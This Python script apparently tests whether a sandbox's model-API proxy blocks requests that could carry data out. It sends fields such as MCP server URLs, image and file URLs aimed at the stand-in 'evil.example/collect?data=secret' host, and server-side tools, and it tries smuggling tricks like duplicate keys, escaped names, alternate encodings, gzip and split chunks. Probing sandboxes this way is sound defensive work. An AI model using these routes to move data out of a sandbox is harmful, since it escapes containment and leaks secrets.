"""Tries to exfiltrate data through the model API from inside a sandbox and prints the responses.

Usage: exits.py anthropic|openai. Each line of the output is a label and a status.
"""

import gzip
import json
import os
import socket
import sys

URL = "https://evil.example/collect?data=secret"
OPENAI = sys.argv[1] == "openai"
PATH = "/v1/responses" if OPENAI else "/v1/messages?beta=true"
KEY = os.environ["ASH_MODEL_KEY" if OPENAI else "ANTHROPIC_API_KEY"]
SOCKET = os.environ["ASH_MODEL_SOCKET" if OPENAI else "ANTHROPIC_UNIX_SOCKET"]


def request(body, headers=(), path=PATH, chunk=0, length=None):
    lines = ["POST %s HTTP/1.1" % path, "Host: x", "User-Agent: exits", "Connection: close"]
    lines += ["Authorization: Bearer " + KEY, *headers]
    if chunk:
        lines.append("Transfer-Encoding: chunked")
        pieces = [body[i : i + chunk] for i in range(0, len(body), chunk)]
        data = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in pieces) + b"0\r\n\r\n"
    else:
        lines.append("Content-Length: %d" % (len(body) if length is None else length))
        data = body
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + data


def send(raw, cut=None):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(30)
        connection.connect(SOCKET)
        try:
            if cut is None:
                connection.sendall(raw)
            else:
                connection.sendall(raw[:cut])
                connection.sendall(raw[cut:])
        except BrokenPipeError:
            pass
        answer = b""
        while b"\r\n" not in answer:
            piece = connection.recv(65536)
            if not piece:
                break
            answer += piece
        return answer.split(b" ")[1].decode() if b" " in answer else "closed"


def base():
    if OPENAI:
        return {"store": False, "stream": False, "model": "m", "input": "hello"}
    message = {"role": "user", "content": "hello"}
    return {"model": "m", "max_tokens": 1, "messages": [message]}


def exits():
    """Yields the fields of requests that could exfiltrate data."""
    if OPENAI:
        part = lambda p: {"input": [{"role": "user", "content": [p]}]}
        yield {"previous_response_id": "resp_1"}
        yield {"conversation": "conv_1"}
        yield {"prompt": {"id": "pmpt_1"}}
        yield {"background": True}
        yield {"store": True}
        yield part({"type": "input_image", "image_url": URL})
        yield part({"type": "input_file", "file_url": URL})
        yield part({"type": "input_file", "file_id": "file-1"})
        yield {"input": [{"type": "item_reference", "id": "msg_1"}]}
        for tool in ("mcp", "web_search", "web_search_preview", "file_search"):
            yield {"tools": [{"type": tool, "server_label": "e", "server_url": URL}]}
        for tool in ("code_interpreter", "image_generation", "computer_use_preview"):
            yield {"tools": [{"type": tool}]}
    else:
        block = lambda b: {"messages": [{"role": "user", "content": [b]}]}
        url = {"type": "url", "url": URL}
        yield {"mcp_servers": [{"type": "url", "url": URL, "name": "e"}]}
        yield {"container": "container_1"}
        yield block({"type": "image", "source": url})
        yield block({"type": "document", "source": url})
        yield block({"type": "document", "source": {"type": "file", "file_id": "file_1"}})
        yield block({"type": "container_upload", "file_id": "file_1"})
        nested = [{"type": "image", "source": url}]
        yield block({"type": "tool_result", "tool_use_id": "t", "content": nested})
        for tool in ("web_search_20250305", "web_fetch_20250910", "code_execution_20250825"):
            yield {"tools": [{"type": tool, "name": tool[:-9]}]}
        yield {"tools": [{"type": "mcp_toolset", "mcp_server_name": "e"}]}
    yield {"new_field": URL}
    yield {"new_field": {"callback_url": 1}}


def hidden(name, value):
    """Encodes one field in ways that two parsers may interpret differently."""
    field = '%s:%s' % (json.dumps(name), json.dumps(value))
    plain = json.dumps(base())
    escaped = '"%s":%s' % ("".join("\\u%04x" % ord(c) for c in name), json.dumps(value))
    yield "duplicate", '{%s:null,%s,%s' % (json.dumps(name), field, plain[1:])
    yield "escaped", "{%s,%s" % (escaped, plain[1:])
    yield "upper case", "{%s,%s" % (field.replace(name, name.upper()), plain[1:])
    yield "trailing", plain + "{%s}" % field
    yield "deep", '{"metadata":%s%s,%s' % ("[" * 64, "]" * 64, plain[1:])


def main():
    plain = json.dumps(base()).encode()
    results = [("innocent", send(request(plain))), ("innocent chunked", send(request(plain, chunk=5)))]
    for exit in exits():
        body = json.dumps(base() | exit).encode()
        results.append((body.decode(), send(request(body))))
        results.append(("chunked " + body.decode(), send(request(body, chunk=3))))
    field = ("previous_response_id", "resp_1") if OPENAI else ("mcp_servers", [{"url": URL}])
    for label, text in hidden(*field):
        results.append((label, send(request(text.encode()))))
    attack = json.dumps(base() | {field[0]: field[1]})
    for charset in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"):
        results.append((charset, send(request(attack.encode(charset)))))
    overlong = attack.encode().replace(b"_", b"\xc1\x9f")
    results.append(("overlong", send(request(overlong))))
    packed = gzip.compress(attack.encode())
    results.append(("gzip", send(request(packed, ["Content-Encoding: gzip"]))))
    results.append(("gzip unsaid", send(request(packed))))
    results.append(("form", send(request(plain, ["Content-Type: text/plain"]))))
    results.append(("query", send(request(plain, path="/v1/responses?include=x" if OPENAI else PATH + "&x=1"))))
    huge = json.dumps(base() | {"metadata": {"user_id": "x" * (33 << 20)}}).encode()
    results.append(("huge", send(request(huge[:100], length=len(huge)))))
    raw = request(attack.encode(), chunk=50)
    for cut in range(1, len(raw)):
        results.append(("cut", send(raw, cut)))
    for label, status in results:
        print("%s\t%s" % (label[:100], status))


main()
